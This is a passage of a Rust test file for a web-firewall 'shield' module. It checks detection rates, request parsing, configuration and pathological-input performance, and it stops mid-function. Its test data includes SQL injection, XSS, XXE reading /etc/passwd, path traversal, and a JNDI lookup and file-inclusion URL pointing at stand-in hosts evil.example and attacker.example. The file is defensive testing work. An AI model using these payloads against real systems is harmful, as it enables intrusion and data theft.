//! Shield tests: the labelled corpora (natively through `scan_value` and
//! through `RuleSet::evaluate` on a query-string request), request walking,
//! configuration, pathological inputs, and timings.

use std::time::Instant;

use super::*;
use crate::ruleset::RuleSet;

/// (corpus file, expected category; `None` for the benign corpus).
const CORPORA: &[(&str, &str, Option<Category>)] = &[
    ("sqli.txt", include_str!("../../../data/corpora/sqli.txt"), Some(Category::SqlInjection)),
    ("nosqli.txt", include_str!("../../../data/corpora/nosqli.txt"), Some(Category::NosqlInjection)),
    ("xss.txt", include_str!("../../../data/corpora/xss.txt"), Some(Category::Xss)),
    ("traversal.txt", include_str!("../../../data/corpora/traversal.txt"), Some(Category::PathTraversal)),
    ("lfi_rfi.txt", include_str!("../../../data/corpora/lfi_rfi.txt"), Some(Category::FileInclusion)),
    ("cmdi.txt", include_str!("../../../data/corpora/cmdi.txt"), Some(Category::CommandInjection)),
    ("ssrf.txt", include_str!("../../../data/corpora/ssrf.txt"), Some(Category::Ssrf)),
    ("ssti.txt", include_str!("../../../data/corpora/ssti.txt"), Some(Category::TemplateInjection)),
    ("jndi.txt", include_str!("../../../data/corpora/jndi.txt"), Some(Category::Jndi)),
    ("crlf.txt", include_str!("../../../data/corpora/crlf.txt"), Some(Category::Crlf)),
    ("xxe.txt", include_str!("../../../data/corpora/xxe.txt"), Some(Category::Xxe)),
    ("benign.txt", include_str!("../../../data/corpora/benign.txt"), None),
];

/// Corpus lines: one value per line; a line that is `#` or starts with
/// `# ` is a comment; empty lines are skipped. Nothing else is trimmed.
pub(crate) fn corpus_lines(text: &str) -> Vec<&str> {
    text.lines()
        .map(|l| l.strip_suffix('\r').unwrap_or(l))
        .filter(|l| !l.is_empty() && *l != "#" && !l.starts_with("# "))
        .collect()
}

fn pct(value: &str) -> String {
    let mut out = String::new();
    for b in value.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{:02X}", b));
        }
    }
    out
}

fn shield_set() -> RuleSet {
    RuleSet::compile(r#"{"rules":[{"kind":"shield","mode":"LIVE"}]}"#).unwrap()
}

fn query_request(query: String) -> Request<'static> {
    Request { method: "GET".into(), host: "example.com".into(), path: "/search".into(), query: query.into(), ..Default::default() }
}

#[test]
fn corpora_detection_and_false_positive_rates() {
    let set = shield_set();
    let mut failures = Vec::new();
    println!("\n{:<14} {:>5} {:>9} {:>8} {:>10} {:>9}", "corpus", "lines", "flagged", "rate", "right cat", "via Wasm");
    for (file, text, expected) in CORPORA {
        let lines = corpus_lines(text);
        assert!(text.starts_with('#'), "{} must start with a comment naming its source", file);
        let mut flagged = 0;
        let mut right = 0;
        let mut via_rules = 0;
        let mut misses = Vec::new();
        for line in &lines {
            let f = scan_value(line, 2);
            let results = set.evaluate(&query_request(format!("q={}", pct(line))));
            let denied = results[0].conclusion == Conclusion::Deny;
            assert_eq!(denied, f.is_some(), "{}: query path and scan_value disagree on {:?}: {}", file, line, results[0].reason);
            if denied {
                via_rules += 1;
            }
            match (&f, expected) {
                (Some(f), _) => {
                    flagged += 1;
                    if Some(f.category) == *expected {
                        right += 1;
                    } else if expected.is_some() {
                        println!("    other category {:?} -> {}", line, f.category.as_str());
                    }
                    if expected.is_none() {
                        misses.push(format!("{:?} -> {}", line, f.category.as_str()));
                    }
                }
                (None, Some(_)) => misses.push(format!("{:?}", line)),
                (None, None) => {}
            }
        }
        let n = lines.len();
        let rate = 100.0 * flagged as f64 / n as f64;
        println!("{:<14} {:>5} {:>9} {:>7.1}% {:>10} {:>9}", file, n, flagged, rate, right, via_rules);
        for m in &misses {
            println!("    {} {}", if expected.is_some() { "missed" } else { "false positive" }, m);
        }
        match expected {
            Some(_) => {
                assert!(n >= 40, "{} has only {} lines", file, n);
                if rate < 97.0 {
                    failures.push(format!("{}: detection {:.1}% < 97%", file, rate));
                }
            }
            None => {
                assert!(n >= 400, "benign corpus has only {} lines", n);
                if rate > 0.5 {
                    failures.push(format!("{}: false positives {:.2}% > 0.5%", file, rate));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{:?}", failures);
}

/// Every prefilter gate is a necessary condition: whenever a matcher fires
/// on a normalised value, the gate computed from that value's byte classes
/// lets it run. Checked on every corpus line and variations of it (as a
/// suffix of benign text, upper case, `+` for space, with the quotes,
/// parentheses, slashes or spaces removed), at every sensitivity.
#[test]
fn prefilter_gates_are_necessary() {
    use Category::*;
    let mut sc = Scratch::default();
    let mut toks = Vec::new();
    let mut view = String::new();
    let mut checked = 0;
    for (_, text, _) in CORPORA {
        for line in corpus_lines(text) {
            let variants = [
                line.to_string(),
                format!("hello world {}", line),
                line.to_uppercase(),
                line.replace(' ', "+"),
                line.replace(' ', ""),
                line.replace(|c| c == '\'' || c == '"' || c == '`', ""),
                line.replace(|c| c == '(' || c == ')', " "),
                line.replace('/', ""),
                line.replace(|c| c == '\r' || c == '\n', ""),
            ];
            for v in &variants {
                normalize(v, 4, &mut sc);
                let s = sc.norm.clone();
                let m = prefilter::classes(s.as_bytes());
                // The class-driven fast paths agree with the full scans:
                // template markers from `(` alone, command separators
                // found by `memchr` (all separator classes set: the table).
                assert_eq!(inject::is_ssti_classes(&s, m), inject::is_ssti(&s), "{:?}", s);
                for key in [None, Some("file")] {
                    assert_eq!(path::is_file_inclusion_classes(&s, m, key), path::is_file_inclusion(&s, key), "{:?}", s);
                }
                {
                    use prefilter::*;
                    let all = m | SEMI | PIPE | AMP | BTICK | LF | CR | DOLLAR | LT | GT;
                    let by_table = cmdi::is_cmdi_classes(&s, all, &mut view);
                    assert_eq!(cmdi::is_cmdi_classes(&s, m, &mut view), by_table, "{:?}", s);
                }
                for sens in 1..=4u8 {
                    let gates = prefilter::possible(m, sens);
                    let fired = [
                        (Jndi, inject::is_jndi(&s)),
                        (Xxe, inject::is_xxe(&s)),
                        (Crlf, inject::is_crlf(&s)),
                        (NosqlInjection, inject::is_nosql(&s)),
                        (TemplateInjection, inject::is_ssti(&s)),
                        (CommandInjection, cmdi::is_cmdi(&s, &mut view)),
                        (SqlInjection, sqli::is_sqli(&s, sens, &mut toks)),
                        (Xss, xss::is_xss(&s, sens)),
                        (PathTraversal, path::is_traversal(&s)),
                        (FileInclusion, path::is_file_inclusion(&s, None) || path::is_file_inclusion(&s, Some("file"))),
                        (Ssrf, ssrf::is_ssrf(&s, sens)),
                    ];
                    for (c, hit) in fired {
                        assert!(!hit || gates & c.bit() != 0, "{} fires on {:?} but the prefilter rules it out", c.as_str(), s);
                        checked += hit as usize;
                    }
                }
            }
        }
    }
    assert!(checked > 1000, "{}", checked);
}

fn eval_one(rule: &str, req: &Request) -> RuleResult {
    let set = RuleSet::compile(&format!(r#"{{"rules":[{}]}}"#, rule)).unwrap();
    set.evaluate(req).remove(0)
}

fn reason(r: &RuleResult) -> serde_json::Value {
    serde_json::from_str(&r.reason).unwrap()
}

#[test]
fn reason_names_category_location_and_excerpt() {
    let r = eval_one(r#"{"kind":"shield"}"#, &query_request("page=2&q=%27%20OR%201%3D1--".into()));
    assert_eq!(r.conclusion, Conclusion::Deny);
    let v = reason(&r);
    assert_eq!(v["type"], "SHIELD");
    assert_eq!(v["category"], "SQL_INJECTION");
    assert_eq!(v["location"], "query:q");
    assert_eq!(v["excerpt"], "' OR 1=1--");
    assert_eq!(v["suspicious"], true);
    assert_eq!(v["findings"], 1);
    let clean = eval_one(r#"{"kind":"shield"}"#, &query_request("q=hello+world".into()));
    assert_eq!(clean.conclusion, Conclusion::Allow);
    assert_eq!(clean.reason, r#"{"type":"SHIELD","suspicious":false}"#);
}

#[test]
fn excerpts_are_redacted_and_short() {
    let long = format!("q={}", pct(&format!("{}' or 1=1--\r\n{}", "a".repeat(500), "b".repeat(100))));
    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &query_request(long)));
    let ex = v["excerpt"].as_str().unwrap();
    assert!(ex.chars().count() <= 40, "{}", ex);
    assert!(!ex.contains('\r'));
}

#[test]
fn headers_cookies_and_path_are_scanned() {
    let mut req = query_request(String::new());
    req.headers = vec![("user-agent".into(), "${jndi:ldap://evil.example/a}".into())];
    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["location"], "header:user-agent");

    let mut req = query_request(String::new());
    req.headers = vec![("cookie".into(), "theme=dark; sid=1%27%20or%20%271%27%3D%271".into())];
    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &req));
    assert_eq!(v["location"], "cookie:sid");

    let mut req = query_request(String::new());
    req.path = "/static/..%2f..%2fetc/passwd".into();
    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["category"], "PATH_TRAVERSAL");

    let mut req = query_request(String::new());
    req.path = "/api/users/1%20union%20select%20password%20from%20users".into();
    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["category"], "SQL_INJECTION");

    // Referers from a local dev server are not SSRF.
    let mut req = query_request(String::new());
    req.headers = vec![("referer".into(), "http://localhost:3000/page?x=1".into())];
    assert_eq!(eval_one(r#"{"kind":"shield"}"#, &req).conclusion, Conclusion::Allow);
}

#[test]
fn structured_headers_are_scanned_only_outside_their_grammar() {
    // Fits the `Accept` grammar: one token, not scanned there.
    let mut req = query_request(String::new());
    req.headers = vec![("accept".into(), "this.password/x".into())];
    assert_eq!(eval_one(r#"{"kind":"shield"}"#, &req).conclusion, Conclusion::Allow);
    // The same value elsewhere is.
    req.headers = vec![("user-agent".into(), "this.password/x".into())];
    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["category"], "NOSQL_INJECTION");
    // Outside the grammar: the full scan.
    for (name, value, category) in [
        ("accept", "text/html; id", "COMMAND_INJECTION"),
        ("accept-language", "en' or 1=1--", "SQL_INJECTION"),
        ("cache-control", "${jndi:ldap://x/a}", "JNDI"),
        ("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT' or '1'='1", "SQL_INJECTION"),
    ] {
        req.headers = vec![(name.into(), value.into())];
        let v = reason(&eval_one(r#"{"kind":"shield"}"#, &req));
        assert_eq!(v["category"], category, "{}: {}", name, value);
        assert_eq!(v["location"], format!("header:{}", name));
    }
}

#[test]
fn nosql_operators_in_query_keys_and_json_keys() {
    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &query_request("user=admin&password[%24ne]=x".into())));
    assert_eq!(v["category"], "NOSQL_INJECTION");
    assert_eq!(v["location"], "query:password[$ne]");

    let mut req = query_request(String::new());
    req.method = "POST".into();
    req.body = br#"{"user":"admin","password":{"$gt":""}}"#;
    req.headers = vec![("content-type".into(), "application/json".into())];
    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &req));
    assert_eq!(v["category"], "NOSQL_INJECTION");
    assert_eq!(v["location"], "body:$.password.$gt");
}

#[test]
fn json_bodies_report_paths_and_honour_exclusions() {
    let mut req = query_request(String::new());
    req.body = br#"{"a":{"b":["ok","<script>alert(1)</script>"]},"html":"<img src=x onerror=alert(1)>"}"#;
    req.headers = vec![("content-type".into(), "application/json; charset=utf-8".into())];
    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &req));
    assert_eq!(v["location"], "body:$.a.b[1]");
    assert_eq!(v["findings"], 2);
    let v = reason(&eval_one(r#"{"kind":"shield","exclude_fields":["body:$.a","body:$.html"]}"#, &req));
    assert_eq!(v["suspicious"], false);
}

#[test]
fn form_multipart_text_and_xml_bodies() {
    let mut req = query_request(String::new());
    req.body = b"name=bob&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    req.headers = vec![("content-type".into(), "application/x-www-form-urlencoded".into())];
    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["location"], "body:comment");

    req.body = b"--b1\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n{{7*7}}\r\n--b1--\r\n";
    req.headers = vec![("content-type".into(), "multipart/form-data; boundary=b1".into())];
    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &req));
    assert_eq!(v["category"], "TEMPLATE_INJECTION");
    assert_eq!(v["location"], "body:bio");

    req.body = b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
    req.headers = vec![("content-type".into(), "application/xml".into())];
    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["category"], "XXE");

    req.body = b"<?xml version=\"1.0\"?><order><item sku=\"A-1\">2</item></order>";
    assert_eq!(eval_one(r#"{"kind":"shield"}"#, &req).conclusion, Conclusion::Allow);
}

#[test]
fn odd_content_type_charsets_are_reported() {
    let mut req = query_request(String::new());
    req.body = b"a=1";
    req.headers = vec![("content-type".into(), "application/x-www-form-urlencoded; charset=ibm037".into())];
    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["category"], "CONTENT_TYPE");
    req.headers = vec![("content-type".into(), "application/json; charset=utf-8; charset=utf-7".into())];
    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["category"], "CONTENT_TYPE");
}

#[test]
fn body_limit_policies() {
    let big = format!("x={}&q=%27%20or%201%3D1--", "a".repeat(200));
    let mut req = query_request(String::new());
    req.body = big.as_bytes();
    req.headers = vec![("content-type".into(), "application/x-www-form-urlencoded".into()), ("content-length".into(), big.len().to_string().into())];
    let v = reason(&eval_one(r#"{"kind":"shield","body_limit":100,"on_body_limit":"allow"}"#, &req));
    assert_eq!(v["suspicious"], false);
    assert_eq!(v["body"], "over_limit_not_inspected");
    let v = reason(&eval_one(r#"{"kind":"shield","body_limit":100,"on_body_limit":"deny"}"#, &req));
    assert_eq!(v["category"], "BODY_LIMIT");
    let v = reason(&eval_one(r#"{"kind":"shield","body_limit":100}"#, &req));
    assert_eq!(v["suspicious"], false);
    assert_eq!(v["body"], "prefix_inspected");
    let v = reason(&eval_one(r#"{"kind":"shield","body_limit":1000}"#, &req));
    assert_eq!(v["category"], "SQL_INJECTION");
}

#[test]
fn configuration_options_and_errors() {
    let req = query_request("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&token=%27%20or%201%3D1--".into());
    assert_eq!(reason(&eval_one(r#"{"kind":"shield","disable":["xss"]}"#, &req))["category"], "SQL_INJECTION");
    assert_eq!(reason(&eval_one(r#"{"kind":"shield","categories":["XSS"]}"#, &req))["findings"], 1);
    assert_eq!(reason(&eval_one(r#"{"kind":"shield","exclude_fields":["query:token","query:q"]}"#, &req))["suspicious"], false);
    let mut excluded = query_request("q=%3Cscript%3E".into());
    excluded.path = "/admin/cms/save".into();
    assert_eq!(reason(&eval_one(r#"{"kind":"shield","exclude_paths":["/admin/cms"]}"#, &excluded))["excluded"], true);
    excluded.path = "/admin/cms/../../api".into();
    assert_eq!(eval_one(r#"{"kind":"shield","exclude_paths":["/admin/cms"]}"#, &excluded).conclusion, Conclusion::Deny);

    for (cfg, option) in [
        (r#"{"kind":"shield","sensitivity":7}"#, "sensitivity"),
        (r#"{"kind":"shield","categories":["SQLI"]}"#, "categories"),
        (r#"{"kind":"shield","disable":"XSS"}"#, "disable"),
        (r#"{"kind":"shield","on_body_limit":"drop"}"#, "on_body_limit"),
        (r#"{"kind":"shield","exclude_fields":["form:x"]}"#, "exclude_fields"),
        (r#"{"kind":"shield","body_limit":-1}"#, "body_limit"),
        (r#"{"kind":"shield","exclude_paths":["admin"]}"#, "exclude_paths"),
    ] {
        let e = RuleSet::compile(&format!(r#"{{"rules":[{}]}}"#, cfg)).unwrap_err();
        assert_eq!(e.option, option, "{}", cfg);
        assert_eq!(e.kind, "shield");
    }
}

#[test]
fn bare_file_names_in_include_like_fields() {
    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &query_request("file=.htpasswd".into())));
    assert_eq!(v["category"], "FILE_INCLUSION");
    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &query_request("page=http://attacker.example/x.php".into())));
    assert_eq!(v["category"], "FILE_INCLUSION");
    assert_eq!(eval_one(r#"{"kind":"shield"}"#, &query_request("file=report.pdf&q=.htpasswd".into())).conclusion, Conclusion::Allow);
}

#[test]
fn sensitivity_levels_order_detection() {
    // Sensitivity 3 adds URLs anywhere in a value for SSRF.
    let v = "see http://127.0.0.1:8080/admin now";
    assert!(scan_value(v, 2).is_none());
    assert!(scan_value(v, 3).is_some());
}

#[test]
fn pathological_inputs_finish() {
    let set = shield_set();
    // Deep JSON nesting.
    let deep = "[".repeat(100_000);
    let mut req = query_request(String::new());
    req.body = deep.as_bytes();
    req.headers = vec![("content-type".into(), "application/json".into())];
    let _ = set.evaluate(&req);
    // 1 MB of quotes, as a query value, a header and a body.
    let quotes = "'".repeat(1 << 20);
    let _ = scan_value(&quotes, 4);
    let mut req = query_request(format!("q={}", quotes));
    req.headers = vec![("user-agent".into(), quotes.clone().into()), ("content-type".into(), "text/plain".into())];
    req.body = quotes.as_bytes();
    let _ = set.evaluate(&req);
    // 100,000 layers of percent-encoding.
    let layered = format!("%{}27", "25".repeat(100_000));
    let _ = scan_value(&layered, 2);
    let _ = set.evaluate(&query_request(format!("q={}", layered)));
    // Invalid UTF-8 in a body and a lossily decoded path.
    let mut req = query_request(String::new());
    req.body = b"\xff\xfe\xc0\xaf\xe0\x80\xae' or 1=1--\xf0\x28\x8c\x28";
    req.path = String::from_utf8_lossy(b"/\xc0\xae\xc0\xae/\xff").into_owned().into();
    let _ = set.evaluate(&req);
    // 10,000 query parameters.
    let many: Vec<String> = (0..10_000).map(|i| format!("p{}=v%27{}", i, i)).collect();
    let v = reason(&set.evaluate(&query_request(many.join("&"))).remove(0));
    assert_eq!(v["query"], "max_query_params");
    // Nested template and lookup openers.
    let _ = scan_value(&"${".repeat(100_000), 4);
    let _ = scan_value(&"{{".repeat(100_000), 4);
    let _ = scan_value(&"<a ".repeat(100_000), 4);
    let _ = scan_value(&"/..".repeat(100_000), 4);
    let _ = scan_value(&"&#".repeat(100_000), 4);
    // Many shell separators without quotes (was quadratic in `is_cmdi`).
    let _ = scan_value(&"a;".repeat(1 << 15), 2);
}

fn browser_get() -> Request<'static> {
    Request {
        ip: "203.0.113.7".into(),
        method: "GET".into(),
        host: "shop.example.com".into(),
        path: "/products/shoes/running".into(),
        query: "page=2&sort=price_asc&q=trail+running+shoes".into(),
        body: b"",
        headers: vec![
            ("host".into(), "shop.example.com".into()),
            ("user-agent".into(), "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36".into()),
            ("accept".into(), "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8".into()),
            ("accept-language".into(), "en-GB,en;q=0.9,fr;q=0.8".into()),
            ("accept-encoding".into(), "gzip, deflate, br, zstd".into()),
            ("referer".into(), "https://shop.example.com/products/shoes?page=1".into()),
            ("cookie".into(), "session=9f86d081884c7d659a2feaa0c55ad015; theme=dark; consent=yes".into()),
            ("sec-ch-ua".into(), "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\"".into()),
            ("sec-ch-ua-mobile".into(), "?0".into()),
            ("sec-fetch-site".into(), "same-origin".into()),
            ("upgrade-insecure-requests".into(), "1".into()),
            ("connection".into(), "keep-alive".into()),
        ],
        extras: vec![],
    }
}

fn json_body(target: usize) -> String {
    let mut s = String::from("{\"items\":[");
    let mut i = 0;
    while s.len() < target {
        if i > 0 {
            s.push(',');
        }
        s.push_str(&format!(
            "{{\"id\":{},\"name\":\"Trail runner {}\",\"note\":\"Customer's choice, ships in 2-3 days\",\"tags\":[\"outdoor\",\"sale\"],\"price\":{}.99}}",
            i, i, 40 + i
        ));
        i += 1;
    }
    s.push_str("]}");
    s
}

fn time_per_call(iters: u32, mut f: impl FnMut()) -> f64 {
    // The best of several batches: the machine may be shared.
    let mut best = f64::MAX;
    for _ in 0..7 {
        let t = Instant::now();
        for _ in 0..iters / 5 {
            f();
        }
        best = best.min(t.elapsed().as_secs_f64() * 1e6 / (iters / 5) as f64);
    }
    best
}

/// Prints timings (run with `--release -- --nocapture` for real figures);
/// asserts only that the browser GET is clean and work grows linearly.
#[test]
fn timings() {
    let set = shield_set();
    let get = browser_get();
    assert_eq!(set.evaluate(&get)[0].conclusion, Conclusion::Allow, "{}", set.evaluate(&get)[0].reason);
    let us = time_per_call(2000, || {
        let _ = set.evaluate(&get);
    });
    // A calibration figure, to compare machines: lower-casing a copy of a
    // 120-byte header value.
    let ua = get.header("user-agent").unwrap_or("").to_string();
    let mut buf = String::new();
    let cal = time_per_call(20000, || {
        buf.clear();
        buf.push_str(&ua);
        buf.make_ascii_lowercase();
    });
    println!("\ncalibration (copy + lower-case 120 bytes): {:.0} ns", cal * 1000.0);
    println!("browser GET (12 headers, short query): {:.2} µs", us);
    let mut last = 0.0;
    for size in [4096usize, 16384, 65536] {
        let body = json_body(size);
        let mut req = query_request(String::new());
        req.method = "POST".into();
        req.body = body.as_bytes();
        req.headers = vec![("content-type".into(), "application/json".into())];
        assert_eq!(set.evaluate(&req)[0].conclusion, Conclusion::Allow, "{}", set.evaluate(&req)[0].reason);
        let us = time_per_call(200, || {
            let _ = set.evaluate(&req);
        });
        println!("JSON body {:>6} bytes: {:.1} µs ({:.1} ns/byte)", body.len(), us, us * 1000.0 / body.len() as f64);
        last = us;
    }
    let _ = last;
}

/// Per-matcher timings on typical values (`--ignored --nocapture`).
#[test]
#[ignore]
fn profile_matchers() {
    let values = [
        "mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36 (khtml, like gecko) chrome/124.0.0.0 safari/537.36",
        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
        "customer's choice, ships in 2-3 days",
        "trail runner 12",
    ];
    let mut toks = Vec::new();
    let mut view = String::new();
    for v in values {
        let n = 20000;
        let t = |name: &str, f: &mut dyn FnMut() -> bool| {
            let mut hits = 0;
            let us = time_per_call(n, || hits += f() as u32);
            assert!(hits <= 2 * n);
            println!("{:>10}: {:>7.0} ns  {}", name, us * 1000.0, &v[..v.len().min(20)]);
        };
        t("jndi", &mut || inject::is_jndi(v));
        t("xxe", &mut || inject::is_xxe(v));
        t("crlf", &mut || inject::is_crlf(v));
        t("nosql", &mut || inject::is_nosql(v));
        t("ssti", &mut || inject::is_ssti(v));
        t("cmdi", &mut || cmdi::is_cmdi(v, &mut view));
        t("sqli", &mut || sqli::is_sqli(v, 2, &mut toks));
        t("xss", &mut || xss::is_xss(v, 2));
        t("trav", &mut || path::is_traversal(v));
        t("fi", &mut || path::is_file_inclusion(v, None));
        t("ssrf", &mut || ssrf::is_ssrf(v, 2));
        let mut sc = Scratch::default();
        t("normalize", &mut || {
            normalize(v, 4, &mut sc);
            true
        });
        t("scan_value", &mut || scan_value(v, 2).is_some());
    }
}

/// Fixed work for instruction counting, which a loaded machine does not
/// disturb: `valgrind --tool=callgrind --toggle-collect='*ShieldRule*evaluate*'
/// <test binary> --ignored --exact shield::tests::work_browser_get` (and
/// `work_json_4k`); divide the instructions by the iterations (1000, 100).
#[test]
#[ignore]
fn work_browser_get() {
    let set = shield_set();
    let get = browser_get();
    for _ in 0..1000 {
        assert_eq!(set.evaluate(&get)[0].conclusion, Conclusion::Allow);
    }
}

#[test]
#[ignore]
fn work_json_4k() {
    let set = shield_set();
    let body = json_body(4096);
    let mut req = query_request(String::new());
    req.method = "POST".into();
    req.body = body.as_bytes();
    req.headers = vec![("content-type".into(), "application/json".into())];
    for _ in 0..100 {
        assert_eq!(set.evaluate(&req)[0].conclusion, Conclusion::Allow);
    }
}

/// Runs of these, 64 KiB long (the most of one value), are the inputs most
/// likely to make a matcher re-read the rest of a value from each occurrence:
/// template and lookup openers, tag and entity starts, quotes, separators,
/// traversal, schemes, comments, SQL phrases, line breaks, Mongo operators,
/// full-width letters and U+FFFD.
const PATHOLOGICAL_RUNS: &[&str] = &[
    "${", "{{", "<%", "#{", "<", "<a", "&#", "%", "%25", "\\", "'", "\"", ";", "|", "$(", "`", "../", "..%2f", "<!",
    "<!ENTITY", "//", "http://", "jndi:", "${jndi:", "/*", "--", "or 1=1 ", "union select ", "\r\n", "%0d%0a",
    "{\"$", "[$ne]", "@", "0x", "\u{ff41}", "\u{fffd}", "<!doctype", "a${", "&echo ", "{{(", "<a x", "javascript:",
    "' ||", "\" on", "expression(", "\\\\a", "1 or ", "a:/", "-", "$where", "{% ", "<%=", "this.",
];

/// `run` repeated to `bytes` bytes (whole repetitions).
fn repeated(run: &str, bytes: usize) -> String {
    run.repeat((bytes / run.len()).max(1))
}

/// The five places a pathological value is put: a query value, a header
/// value, a JSON string, a JSON key, a form value.
fn pathological_requests(value: &str) -> Vec<(&'static str, Request<'static>, Vec<u8>)> {
    let json_str = serde_json::to_string(value).unwrap();
    let mut out = Vec::new();
    out.push(("query", query_request(format!("q={}", pct(value))), Vec::new()));
    let mut r = query_request(String::new());
    r.headers = vec![("x-data".into(), value.to_string().into())];
    out.push(("header", r, Vec::new()));
    for (name, body, ct) in [
        ("json value", format!("{{\"a\":{}}}", json_str).into_bytes(), "application/json"),
        ("json key", format!("{{{}:1}}", json_str).into_bytes(), "application/json"),
        ("form", format!("a={}", pct(value)).into_bytes(), "application/x-www-form-urlencoded"),
    ] {
        let mut r = query_request(String::new());
        r.method = "POST".into();
        r.headers = vec![("content-type".into(), ct.into())];
        out.push((name, r, body));
    }
    out
}

fn pathological_set(sens: u8) -> RuleSet {
    RuleSet::compile(&format!(r#"{{"rules":[{{"kind":"shield","mode":"LIVE","sensitivity":{},"body_limit":1048576}}]}}"#, sens)).unwrap()
}

/// Every pathological run, in every place, at sensitivity 4 (where every
/// matcher the lower levels run also runs): must finish (a super-linear
/// matcher took seconds here, and exhausted the Wasm fuel budget). A
/// generous wall-clock bound catches a gross regression in debug builds;
/// `pathological_runs_are_fast` holds release builds to 5 ms at
/// sensitivity 2 and 4.
#[test]
fn pathological_runs_finish() {
    for sens in [4u8] {
        let set = pathological_set(sens);
        for run in PATHOLOGICAL_RUNS {
            let value = repeated(run, 64 * 1024);
            for (place, mut req, body) in pathological_requests(&value) {
                req.body = &body;
                let t = Instant::now();
                let r = set.evaluate(&req).remove(0);
                let took = t.elapsed();
                assert!(matches!(r.conclusion, Conclusion::Allow | Conclusion::Deny), "{:?} in {}: {}", run, place, r.reason);
                assert!(took.as_secs_f64() < 3.0, "{:?} x {} in {} at sensitivity {}: {:?}", run, value.len() / run.len(), place, sens, took);
            }
        }
    }
}

/// Release-build timing of every pathological run in every place (run with
/// `--release -- --ignored --nocapture pathological_runs_are_fast`): each
/// under 5 ms, and a 64 KiB run at most ~6x as slow as a 16 KiB one (4x is
/// linear; a quadratic matcher gives 16x).
#[test]
#[ignore]
fn pathological_runs_are_fast() {
    let mut worst = (0.0f64, String::new());
    let mut failures = Vec::new();
    for sens in [2u8, 4] {
        let set = pathological_set(sens);
        for run in PATHOLOGICAL_RUNS {
            let big = repeated(run, 64 * 1024);
            let small = repeated(run, 16 * 1024);
            let bigs = pathological_requests(&big);
            let smalls = pathological_requests(&small);
            for ((place, mut req, body), (_, mut sreq, sbody)) in bigs.into_iter().zip(smalls) {
                req.body = &body;
                sreq.body = &sbody;
                let us = time_per_call(10, || {
                    let _ = set.evaluate(&req);
                });
                let sus = time_per_call(10, || {
                    let _ = set.evaluate(&sreq);
                });
                let what = format!("{:?} in {} at sensitivity {}: {:.0} µs (16 KiB: {:.0} µs)", run, place, sens, us, sus);
                if us > worst.0 {
                    worst = (us, what.clone());
                }
                if us > 5000.0 || (us > 500.0 && us > 6.0 * sus) {
                    failures.push(what);
                }
            }
        }
    }
    println!("slowest: {}", worst.1);
    assert!(failures.is_empty(), "{:#?}", failures);
}

/// A deterministic xorshift64* generator (no external crates).
struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len())]
    }
}

/// Bytes the fuzzer likes: syntax of every matcher, line breaks, NUL,
/// lone UTF-8 lead and continuation bytes, overlong forms.
const FUZZ_BYTES: &[u8] = b"'\"`;|&$<>(){}[]%\\/.:#-=*+@!~?^,_ \t\r\n\x00\x80\xa8\xbf\xc0\xae\xe0\xef\xf0\xff0aZ";

/// One fuzzed value, as raw bytes (possibly invalid UTF-8): a corpus line,
/// random bytes, a splice of lines cut at any byte, a repeated fragment,
/// a line with bytes flipped, inserted and removed, or a line with
/// multi-byte characters sprinkled through it.
fn fuzz_value(rng: &mut XorShift, lines: &[&str]) -> Vec<u8> {
    let line = rng.pick(lines).as_bytes();
    let mut v: Vec<u8> = match rng.below(7) {
        0 => line.to_vec(),
        6 => {
            // Multi-byte characters sprinkled through a line, so that fixed
            // byte offsets fall inside characters.
            const WIDE: &[&str] = &["\u{fffd}", "\u{ff41}", "\u{2215}", "\u{3002}", "é", "\u{1f600}", "\u{fdfa}", "\u{a0}"];
            let mut v = Vec::new();
            for &b in line {
                v.push(b);
                if rng.below(3) == 0 {
                    v.extend_from_slice(rng.pick(WIDE).as_bytes());
                }
            }
            v
        }
        1 => (0..rng.below(80)).map(|_| if rng.below(2) == 0 { *rng.pick(FUZZ_BYTES) } else { rng.next() as u8 }).collect(),
        2 => {
            let mut v = Vec::new();
            for _ in 0..2 + rng.below(3) {
                let l = rng.pick(lines).as_bytes();
                let a = rng.below(l.len() + 1);
                let b = a + rng.below(l.len() - a + 1);
                v.extend_from_slice(&l[a..b]);
            }
            v
        }
        3 => {
            let a = rng.below(line.len());
